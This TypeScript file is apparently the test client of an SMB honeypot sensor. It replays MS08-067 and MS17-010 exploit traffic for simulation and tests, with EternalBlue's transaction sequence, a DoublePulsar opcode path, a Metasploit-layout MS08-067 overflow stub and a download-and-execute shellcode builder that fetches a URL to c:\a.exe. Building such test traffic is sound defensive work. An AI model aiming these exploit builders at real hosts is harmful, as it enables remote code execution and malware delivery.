// A small SMB1 client for `apiary simulate`, the tests and the benchmark: enough to log on anonymously,
// open a pipe, speak DCE/RPC and send the transactions MS08-067 and MS17-010 exploits send. Not used by
// the sensor.
import { connect, type Socket } from 'node:net';
import { ByteWriter } from '../../wire/reader.js';
import { decodeNbssFrame, encodeNbssFrame } from '../../sensors/smb/codec/netbios.js';
import { decodeSmb1Message, type Smb1Message } from '../../sensors/smb/codec/smb1.js';
import { encodeBind, encodeRequest, uuidToString } from '../../sensors/smb/codec/dcerpc.js';
import { encodeNegTokenInit } from '../../sensors/smb/codec/spnego.js';
import { encodeNtlmAuthenticate, encodeNtlmNegotiate } from '../../sensors/smb/codec/ntlmssp.js';
import { decodeSpnego } from '../../sensors/smb/codec/spnego.js';

export class SmbTestClient {
  private buf: Buffer = Buffer.alloc(0);
  private waiting: ((m: Uint8Array) => void)[] = [];
  private frames: Uint8Array[] = [];
  uid = 0;
  tid = 0;
  mid = 1;
  closed = false;

  private constructor(readonly sock: Socket) {
    sock.on('data', (d: Buffer) => {
      this.buf = Buffer.concat([this.buf, d]);
      for (;;) {
        const f = decodeNbssFrame(this.buf, true);
        if (f.status !== 'ok') break;
        this.buf = this.buf.subarray(f.consumed);
        const w = this.waiting.shift();
        if (w) w(f.value.payload);
        else this.frames.push(f.value.payload);
      }
    });
    sock.on('close', () => {
      this.closed = true;
      for (const w of this.waiting.splice(0)) w(new Uint8Array(0));
    });
    sock.on('error', () => {});
  }

  static open(port: number, host = '127.0.0.1', localAddress?: string): Promise<SmbTestClient> {
    return new Promise((resolve, reject) => {
      const s = connect({ port, host, ...(localAddress ? { localAddress } : {}) }, () => resolve(new SmbTestClient(s)));
      s.once('error', reject);
    });
  }

  /** The next frame from the server (empty when the connection closed), or undefined after `ms`. */
  next(ms = 5000): Promise<Uint8Array | undefined> {
    const f = this.frames.shift();
    if (f) return Promise.resolve(f);
    if (this.closed) return Promise.resolve(new Uint8Array(0));
    return new Promise((resolve) => {
      const timer = setTimeout(() => {
        this.waiting = this.waiting.filter((w) => w !== done);
        resolve(undefined);
      }, ms);
      const done = (m: Uint8Array): void => {
        clearTimeout(timer);
        resolve(m);
      };
      this.waiting.push(done);
    });
  }

  sendRaw(payload: Uint8Array): void {
    this.sock.write(encodeNbssFrame(0, payload));
  }

  /** Builds an SMB1 request: header, words, bytes. */
  request(command: number, words: Uint8Array, bytes: Uint8Array, o: { mid?: number; flags2?: number; tid?: number; timeoutField?: never } = {}): Uint8Array {
    const w = new ByteWriter(1 << 20);
    w.bytes(Uint8Array.of(0xff, 0x53, 0x4d, 0x42)).u8(command).u32le(0).u8(0x18).u16le(o.flags2 ?? 0xc801);
    w.u16le(0).zeros(8).u16le(0).u16le(o.tid ?? this.tid).u16le(0xfeff).u16le(this.uid).u16le(o.mid ?? this.mid++);
    w.u8(words.length >> 1).bytes(words).u16le(bytes.length).bytes(bytes);
    return w.finish();
  }

  async call(command: number, words: Uint8Array, bytes: Uint8Array, o: { mid?: number; tid?: number } = {}): Promise<Smb1Message & { status: number }> {
    this.sendRaw(this.request(command, words, bytes, o));
    const reply = await this.next();
    if (!reply || reply.length === 0) throw new Error('no SMB reply');
    const d = decodeSmb1Message(reply);
    if (d.status !== 'ok') throw new Error(`bad SMB reply: ${d.status}`);
    return { ...d.value, status: d.value.header.status };
  }

  /** NEGOTIATE NT LM 0.12 and an anonymous extended-security logon (NTLMSSP in SPNEGO). */
  async logon(user = '', domain = ''): Promise<void> {
    const neg = await this.call(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1'));
    if (neg.status !== 0) throw new Error('negotiate failed');
    const setup = (blob: Uint8Array): Uint8Array =>
      new ByteWriter(64).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(50).u16le(0).u32le(0).u16le(blob.length).u32le(0).u32le(0x800000d4).finish();
    const b1 = encodeNegTokenInit(encodeNtlmNegotiate());
    const r1 = await this.call(0x73, setup(b1), Buffer.concat([b1, Buffer.from('Unix\0Samba\0', 'latin1')]));
    if (r1.status !== 0xc0000016) throw new Error(`session setup 1 status ${r1.status.toString(16)}`);
    this.uid = r1.header.uid;
    const tok = decodeSpnego(r1.blocks[0]!.bytes.subarray(0, r1.blocks[0]!.words[6]! | (r1.blocks[0]!.words[7]! << 8)));
    if (!tok?.mechToken) throw new Error('no NTLM challenge');
    const auth = encodeNtlmAuthenticate({ user, domain, workstation: 'TESTBOX', lm: user ? new Uint8Array(24) : new Uint8Array(0), nt: user ? new Uint8Array(24).fill(7) : new Uint8Array(0) });
    // A NegTokenResp carrying the AUTHENTICATE: [1] { SEQUENCE { [2] OCTET STRING } }.
    const inner = Buffer.concat([Uint8Array.of(0x04, 0x82, auth.length >> 8, auth.length & 0xff), auth]);
    const a2 = Buffer.concat([Uint8Array.of(0xa2, 0x82, inner.length >> 8, inner.length & 0xff), inner]);
    const seq = Buffer.concat([Uint8Array.of(0x30, 0x82, a2.length >> 8, a2.length & 0xff), a2]);
    const resp = Buffer.concat([Uint8Array.of(0xa1, 0x82, seq.length >> 8, seq.length & 0xff), seq]);
    const r2 = await this.call(0x73, setup(resp), Buffer.concat([resp, Buffer.from('Unix\0Samba\0', 'latin1')]));
    if (r2.status !== 0) throw new Error(`session setup 2 status ${r2.status.toString(16)}`);
  }

  async treeConnect(path: string): Promise<number> {
    const words = new ByteWriter(16).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish();
    const bytes = Buffer.concat([Uint8Array.of(0), Buffer.from(path + '\0', 'utf16le'), Buffer.from('?????\0', 'latin1')]);
    const r = await this.call(0x75, words, bytes);
    if (r.status !== 0) throw new Error(`tree connect status ${r.status.toString(16)}`);
    this.tid = r.header.tid;
    return this.tid;
  }

  async openPipe(name: string): Promise<number> {
    const nameBytes = Buffer.from(name + '\0', 'utf16le');
    const w = new ByteWriter(64).u8(0xff).u8(0).u16le(0).u8(0).u16le(nameBytes.length).u32le(0).u32le(0).u32le(0x0002019f).u64le(0n);
    w.u32le(0).u32le(3).u32le(1).u32le(0).u32le(2).u8(0);
    // Names are UTF-16 aligned from the header: header 32 + WC 1 + words 48 + BC 2 = 83 (odd), so pad 1.
    const r = await this.call(0xa2, w.finish(), Buffer.concat([Uint8Array.of(0), nameBytes]));
    if (r.status !== 0) throw new Error(`create status ${r.status.toString(16)}`);
    return r.blocks[0]!.words[5]! | (r.blocks[0]!.words[6]! << 8);
  }

  /** TransactNmPipe: writes an RPC PDU and returns the reply PDU. */
  async transact(fid: number, data: Uint8Array): Promise<{ status: number; data: Uint8Array }> {
    // Data bytes start at 32 + 1 + 32 + 2 = 67: a pad byte, "\PIPE\" in UTF-16, then padding to 4.
    const name = Buffer.from('\\PIPE\\\0', 'utf16le');
    const dataOffset = (68 + name.length + 3) & ~3;
    const w = new ByteWriter(64).u16le(0).u16le(data.length).u16le(0).u16le(4280).u8(0).u8(0).u16le(0).u32le(0).u16le(0);
    w.u16le(0).u16le(dataOffset).u16le(data.length).u16le(dataOffset).u8(2).u8(0).u16le(0x26).u16le(fid);
    const bytes = Buffer.concat([Uint8Array.of(0), name, new Uint8Array(dataOffset - 68 - name.length), data]);
    const r = await this.call(0x25, w.finish(), bytes, {});
    const words = r.blocks[0]!.words;
    if (words.length < 20) return { status: r.status, data: new Uint8Array(0) };
    const dc = words[12]! | (words[13]! << 8);
    const doff = words[14]! | (words[15]! << 8);
    return { status: r.status, data: r.raw.subarray(doff, doff + dc) };
  }

  async bind(fid: number, uuid: string, version: number): Promise<Uint8Array> {
    const pdu = encodeBind(1, [{ abstract: { uuid, version, minor: 0 }, transfers: [{ uuid: '8a885d04-1ceb-11c9-9fe8-08002b104860', version: 2, minor: 0 }] }]);
    return (await this.transact(fid, pdu)).data;
  }

  /** Writes a request with WRITE_ANDX and does not wait for an RPC reply (exploits do not). */
  async writePipe(fid: number, data: Uint8Array): Promise<number> {
    const dataOffset = 32 + 1 + 28 + 2 + 1;
    const w = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u32le(0).u16le(0x0008).u16le(data.length);
    w.u16le(data.length >>> 16).u16le(data.length & 0xffff).u16le(dataOffset).u32le(0);
    const r = await this.call(0x2f, w.finish(), Buffer.concat([Uint8Array.of(0), data]));
    return r.status;
  }

  rpcRequest(opnum: number, stub: Uint8Array): Uint8Array {
    return encodeRequest(2, 0, opnum, stub);
  }

  /** TRANSACTION2 with one setup word; `timeout` carries DoublePulsar's opcode. */
  async trans2(sub: number, timeout: number, params: Uint8Array, data: Uint8Array, mid: number): Promise<Smb1Message & { status: number }> {
    const base = 32 + 1 + 30 + 2;
    const paramOffset = base + 3;
    const dataOffset = paramOffset + params.length;
    const w = new ByteWriter(64).u16le(params.length).u16le(data.length).u16le(1).u16le(0).u8(0).u8(0).u16le(0).u32le(timeout).u16le(0);
    w.u16le(params.length).u16le(paramOffset).u16le(data.length).u16le(dataOffset).u8(1).u8(0).u16le(sub);
    return this.call(0x32, w.finish(), Buffer.concat([new Uint8Array(3), params, data]), { mid });
  }

  /**
   * EternalBlue's transaction sequence: an NT_TRANSACT (function 0) announcing 0x10fe8 bytes of data,
   * continued by TRANSACTION2 secondaries carrying the rest; DATA ends up at the end of the last one.
   */
  async eternalBlue(data: Uint8Array, mid = 64): Promise<number> {
    const total = 0x10fe8;
    const first = new Uint8Array(0x3d0).fill(0x41);
    const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(total).u32le(30).u32le(0).u32le(0).u32le(0).u32le(first.length).u32le(32 + 1 + 40 + 2).u8(1).u16le(0).u16le(0).finish();
    const interim = await this.call(0xa0, nt, first, { mid });
    let sent = first.length;
    while (sent < total) {
      const n = Math.min(4000, total - sent);
      const chunk = new Uint8Array(n).fill(0x90);
      if (sent + n >= total) chunk.set(data.subarray(0, n), Math.max(0, n - data.length));
      const w = new ByteWriter(32).u16le(30).u16le(total & 0xffff).u16le(0).u16le(0).u16le(0).u16le(n).u16le(32 + 1 + 18 + 2).u16le(sent).u16le(0).finish();
      this.sendRaw(this.request(0x33, w, chunk, { mid }));
      sent += n;
    }
    return interim.status;
  }

  close(): void {
    this.sock.destroy();
  }
}

export { uuidToString };

/** Download-and-execute shellcode body: GetPC, then the strings URLDownloadToFile and WinExec use. */
export function downloadShellcode(url: string): Uint8Array {
  return Buffer.concat([
    Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5d, 0x81, 0xed, 0x05, 0, 0, 0),
    Buffer.from(`urlmon\0${url}\0c:\\a.exe\0`, 'latin1'),
    Uint8Array.of(0x6a, 0x00, 0xff, 0xd0),
  ]);
}

/** NetprPathCanonicalize stub with Metasploit's layout: "\" + 100 letters + raw payload + "\..\..\" + padding. */
export function ms08067Stub(payload: Uint8Array): Uint8Array {
  const letters = Buffer.from('\\' + 'A'.repeat(100), 'utf16le');
  const tail = Buffer.from('\\..\\..\\', 'utf16le');
  let path = Buffer.concat([letters, payload, payload.length % 2 ? Uint8Array.of(0x90) : new Uint8Array(0), tail, Buffer.from('\0', 'utf16le')]);
  const units = path.length / 2;
  const w = new ByteWriter(8192);
  const server = Buffer.from('PFIX\0', 'utf16le');
  w.u32le(0x00020000).u32le(5).u32le(0).u32le(5).bytes(server).align(4);
  w.u32le(units).u32le(0).u32le(units).bytes(path).align(4);
  w.u32le(1000);
  w.u32le(2).u32le(0).u32le(2).bytes(Buffer.from('\\\0', 'utf16le')).align(4);
  w.u32le(4097).u32le(0);
  path = Buffer.alloc(0);
  return w.finish();
}
